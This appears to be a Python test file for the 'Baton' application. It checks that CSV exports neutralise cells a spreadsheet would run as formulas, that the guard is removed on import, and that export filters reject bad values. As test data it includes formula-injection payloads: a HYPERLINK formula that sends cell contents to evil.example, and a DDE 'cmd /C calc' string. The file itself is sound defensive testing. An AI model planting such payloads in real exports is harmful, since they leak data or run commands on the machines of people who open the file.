"""The cell rule of every CSV Baton writes (issue 12, item 1) and the export filters:
formula cells neutralised, Baton's own safe shapes left as they are, the guard taken
off again on import, and a misspelt filter refused with the allowed values."""

from __future__ import annotations

from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from baton.domain.cells import Kind, csv_cell, neutralise, unguard
from baton.domain.errors import ValidationFailed
from baton.domain.exports import ActivityFilter, HandoffFilter, LeadFilter, read_filter


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # already guarded by someone: guarded again, so it comes back
        ("Dana", "Dana"),
        ("O'Brien", "O'Brien"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_neutralised(value: str, written: str) -> None:
    assert csv_cell(value) == written
    assert unguard(csv_cell(value)) == value


def test_values_baton_validated_into_a_safe_shape_are_written_as_they_are() -> None:
    assert csv_cell("+4930123456", Kind.PHONE) == "+4930123456"
    assert csv_cell(-3.5, Kind.NUMBER) == "-3.5"
    assert csv_cell(-2) == "-2"
    assert csv_cell(datetime(2026, 3, 2, 9, tzinfo=UTC)) == "2026-03-02T09:00:00+00:00"
    assert csv_cell(date(2026, 3, 2)) == "2026-03-02"
    assert csv_cell(True) == "true"
    assert csv_cell(None) == ""
    # The shape is checked, not the column: a phone column holding a formula is text.
    assert csv_cell("+1+cmd|' /C calc'!A0", Kind.PHONE) == "'+1+cmd|' /C calc'!A0"
    assert csv_cell("+4930123456") == "'+4930123456"  # a text column is text


def test_lists_and_objects_are_written_as_text_and_neutralised_too() -> None:
    assert csv_cell(["hot", "q3:demo"], Kind.LIST) == "hot; q3:demo"
    assert csv_cell({"b": 1, "a": "=x"}, Kind.JSON) == '{"a": "=x", "b": 1}'
    assert csv_cell(["-x"], Kind.LIST) == "'-x"


@given(st.text())
def test_export_then_import_gives_every_text_back_exactly(value: str) -> None:
    assert unguard(neutralise(value)) == value


def test_a_cell_another_program_guarded_imports_without_its_guard() -> None:
    assert unguard("'=SUM(1)") == "=SUM(1)"
    assert unguard("'+49 30 1234") == "+49 30 1234"
    assert unguard("'hello") == "'hello"  # not a guard: nothing to take off


@pytest.mark.parametrize(
    ("model", "values", "loc", "words"),
    [
        (LeadFilter, {"stage": "bogus"}, "stage", "use one of 'lead', 'mql'"),
        (LeadFilter, {"stage": ["mql", "sqll"]}, "stage", "did you mean 'sql'?"),
        (LeadFilter, {"grade": "E"}, "grade", "use one of 'A', 'B', 'C' or 'D'"),
        (LeadFilter, {"since": "yesterday"}, "since", "a day (2026-03-01)"),
        (LeadFilter, {"since": "2026-03-02", "until": "2026-03-01"}, "until", "after since"),
        (HandoffFilter, {"status": "done"}, "status", "'queued', 'assigned'"),
        (ActivityFilter, {"type": "page_vew"}, "type", "did you mean 'page_view'?"),
        (ActivityFilter, {"lead_id": 0}, "lead_id", "greater than or equal to 1"),
    ],
)
def test_a_bad_filter_is_an_error_that_names_it_and_what_it_allows(
    model: type[LeadFilter], values: dict[str, object], loc: str, words: str
) -> None:
    with pytest.raises(ValidationFailed) as caught:
        read_filter(model, values)
    assert [p.loc for p in caught.value.problems] == [loc]
    assert words in caught.value.problems[0].message
    assert words in caught.value.detail


def test_filters_are_read_as_people_write_them() -> None:
    leads = read_filter(
        LeadFilter,
        {
            "stage": ["MQL,sal"],
            "grade": ["a"],
            "source": " Google  Ads ",
            "owner": "Ana@Lumen.example",
            "tag": "Hot",
            "since": "2026-03-01",
            "until": "2026-03-31",
        },
    )
    assert [s.value for s in leads.stage] == ["mql", "sal"]
    assert (leads.grade, leads.source, leads.owner, leads.tag) == (
        ["A"],
        "google ads",
        "ana@lumen.example",
        "hot",
    )
    # A day is UTC; `until` a day includes it, a time excludes it.
    assert leads.since == datetime(2026, 3, 1, tzinfo=UTC)
    assert leads.until == datetime(2026, 4, 1, tzinfo=UTC)
    timed = read_filter(HandoffFilter, {"until": "2026-03-31T10:00:00+02:00"})
    assert timed.until == datetime(2026, 3, 31, 8, tzinfo=UTC)
    assert read_filter(ActivityFilter, {"type": None, "lead_id": None}) == ActivityFilter()
